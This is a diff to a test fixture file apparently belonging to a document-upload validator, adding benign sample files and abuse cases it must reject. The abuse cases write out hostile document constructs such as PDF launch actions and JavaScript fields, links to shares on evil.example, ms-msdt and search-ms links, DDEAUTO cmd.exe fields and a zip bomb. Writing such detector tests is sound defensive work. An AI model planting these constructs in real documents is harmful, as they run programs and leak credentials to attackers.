@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs'
 import { crc32, deflateSync } from 'node:zlib'
 import { samplePdf, samplePng } from '#factories/sample-files.ts'
 import type { FileFormat } from '#src/features/documents/file-formats.ts'
@@ -161,7 +162,36 @@ export function goodFiles(): Array<GoodFile> {
       bytes: pdfWith(packed(manyObjects(10_000))),
       format: 'pdf',
     },
+    { what: 'a PDF that a browser printed', name: 'page2.pdf', bytes: file('printed-by-chromium.pdf'), format: 'pdf' },
+    { what: 'a PDF with links in packed objects', name: 'x.pdf', bytes: file('object-streams.pdf'), format: 'pdf' },
+    { what: 'a PDF of 2020', name: 'x2.pdf', bytes: withText(file('object-streams.pdf'), '1.7', '2.0'), format: 'pdf' },
+    {
+      what: 'a PDF with links to files on the writer’s disk and to an address',
+      name: 'links2.pdf',
+      bytes: pdfWith(
+        linkTo('(file:///C:/Users/Ada/cv.pdf)'),
+        linkTo('<68747470733A2F2F61>'),
+        linkTo('9 0 R'),
+        '(https://a.b)',
+      ),
+      format: 'pdf',
+    },
     { what: 'a DOCX', name: 'cv.docx', bytes: sampleDocx(), format: 'docx' },
+    {
+      what: 'a DOCX with a picture pasted from the web and a link to write to',
+      name: 'cv5.docx',
+      bytes: sampleDocx({
+        text: field(' INCLUDEPICTURE "https://adaeze.example/a.png" \\* MERGEFORMATINET '),
+        settings: relation('hyperlink', 'mailto:ada@adaeze.example', { isExternal: true }),
+      }),
+      format: 'docx',
+    },
+    {
+      what: 'a DOC with page numbers',
+      name: 'letter4.doc',
+      bytes: sampleDoc({ text: '\x13 PAGE \x142\x15 \x13HYPERLINK "https://a.b/dde "\x14DDEAUTO\x15 is a field' }),
+      format: 'doc',
+    },
     {
       what: 'a DOCX of Word on the web',
       name: 'cv2.docx',
@@ -207,6 +237,19 @@ export function goodFiles(): Array<GoodFile> {
       format: 'doc',
     },
   ]
+}
+
+function file(name: string): Buffer {
+  return readFileSync(new URL(`./files/${name}`, import.meta.url))
+}
+
+function withText(bytes: Buffer, before: string, after: string): Buffer {
+  return Buffer.from(bytes.toString('latin1').replace(before, after), 'latin1')
+}
+
+/** A link of a PDF to what these characters say. */
+function linkTo(target: string): string {
+  return `<< /Type /Annot /Subtype /Link /A << /S /URI /URI ${target} >> >>`
 }
 
 /** A PDF of exactly so many bytes. */
@@ -520,6 +563,42 @@ function pdfs(): Array<AbuseFile> {
       ),
       'cannot-be-checked',
     ),
+    bad('a PDF with a file pinned to its page', holding('<< /Subtype /FileAttachment /FS 9 0 R >>'), 'has-script'),
+    bad(
+      'a PDF with a packed list of files',
+      holding(packed([[2, '<< /Names << /EmbeddedFiles 9 0 R >> >>']])),
+      'has-script',
+    ),
+    bad('a PDF that starts a program, packed', holding(packed([[2, '<< /S /Launch /F (a.exe) >>']])), 'has-script'),
+    bad(
+      'a PDF whose field runs a script',
+      holding('<< /AcroForm << /Fields [<< /FT /Tx /AA << /K << /S /JavaScript /JS 9 0 R >> >> >>] >> >>'),
+      'has-script',
+    ),
+    bad('a PDF with a link to a share', holding(linkTo('(\\\\\\\\evil.example\\\\a)')), 'has-script'),
+    bad('a PDF with a link to a share in octal', holding(linkTo('(\\134\\134evil.example/a)')), 'has-script'),
+    bad('a PDF with a link to a share in hexadecimal', holding(linkTo('<5C5C 6576696C2F61>')), 'has-script'),
+    bad('a PDF with a link to a share as an address', holding(linkTo('(file://evil.example/a)')), 'has-script'),
+    bad(
+      'a PDF with a link to a share by way of another object',
+      holding(`${linkTo('12 0 R')}\nendobj\n12 0 obj\n(\\\\\\\\evil.example\\\\a)`),
+      'has-script',
+    ),
+    bad(
+      'a PDF with a link to a share, all packed',
+      holding(
+        packed([
+          [2, linkTo('13 0 R')],
+          [13, '<5C5C6576696C5C61>'],
+        ]),
+      ),
+      'has-script',
+    ),
+    bad(
+      'a PDF with a password in its stream of places',
+      holding('<< /Type /XRef /Encrypt 5 0 R /Length 0 >>\nstream\n\nendstream'),
+      'has-password',
+    ),
     bad('a PDF that is a program for forms', holding('<< /AcroForm << /XFA 5 0 R >> >>'), 'has-script'),
   ]
 }
@@ -627,6 +706,21 @@ function newDocuments(): Array<AbuseFile> {
       'holds-another-file',
     ),
     bad('a DOCX with a control', sampleDocx({ settings: relation('control', 'a.xml') }), 'holds-another-file'),
+    bad(
+      'a DOCX with a control in two parts',
+      sampleDocx({ settings: relation('activeXControlBinary', 'activeX1.bin') }),
+      'holds-another-file',
+    ),
+    bad(
+      'a DOCX with a link that starts a program',
+      external('hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force'),
+      'holds-another-file',
+    ),
+    bad(
+      'a DOCX with a link that opens a search',
+      external('hyperlink', 'Search-ms&#58;query=a&amp;crumb=location:\\\\evil.example'),
+      'holds-another-file',
+    ),
     bad('a DOCX with a page in it', sampleDocx({ settings: relation('aFChunk', 'a.html') }), 'holds-another-file'),
     ...commands().map(({ what, text }) => bad(what, sampleDocx({ text }), 'holds-another-file')),
     bad(
@@ -713,6 +807,13 @@ function newDocuments(): Array<AbuseFile> {
       'damaged',
     ),
     bad(
+      'a bomb: thirty megabytes that say they were a hundred bytes',
+      sampleDocx({
+        more: [{ name: 'word/media/a.png', bytes: Buffer.alloc(30_000_000, 'a'), says: { unpacked: 100 } }],
+      }),
+      'damaged',
+    ),
+    bad(
       'a bomb: 42 that share their bytes',
       sampleDocx({
         more: Array.from({ length: 42 }, (_, index) => ({
@@ -792,6 +893,22 @@ function oldDocuments(): Array<AbuseFile> {
       sampleDoc({ more: { 'ObjectPool/_1/_VBA_PROJECT_CUR/PROJECT': Buffer.alloc(100) } }),
       'has-macros',
     ),
+    bad('a DOC with a command', sampleDoc({ text: '\x13 ddeauto c:\\cmd.exe \x14a\x15' }), 'holds-another-file'),
+    bad(
+      'a DOC with a command in two bytes a letter',
+      sampleDoc({ text: Buffer.from('A\x13DDE excel a b\x15', 'utf16le').subarray(1).toString('latin1') }),
+      'holds-another-file',
+    ),
+    bad(
+      'a DOC with a command made of numbers',
+      sampleDoc({ text: '\x13\x13QUOTE 68 68 69\x14\x15\x15' }),
+      'holds-another-file',
+    ),
+    bad(
+      'a DOC with a file in it',
+      sampleDoc({ more: { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(5000) } }),
+      'holds-another-file',
+    ),
     bad('a stream of letters that is none', sampleCompoundFile({ WordDocument: Buffer.alloc(4096) })),
     bad('an empty stream of letters', sampleCompoundFile({ WordDocument: Buffer.alloc(0) })),
     bad('only the beginning of a DOC', good.subarray(0, 300)),
@@ -817,6 +934,8 @@ function commands(): Array<{ what: string; text: string }> {
   const spelled = '<w:instrText>&#68;<!-- -->D<![CDATA[E]]> excel a b</w:instrText>'
   return [
     { what: 'a DOCX with a command', text: field('DDEAUTO c:\\\\cmd.exe "/k calc"') },
+    { what: 'a DOCX with a field that reads a share', text: field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"') },
+    { what: 'a DOCX with a field that reads a share as an address', text: field(' IncludeText file://evil.example/a') },
     { what: 'a DOCX with a command in one element', text: simple },
     { what: 'a DOCX with a command in pieces', text: `${BEGIN}${inPieces}${END}` },
     { what: 'a DOCX with a command spelled otherwise', text: `${BEGIN}${spelled}${END}` },
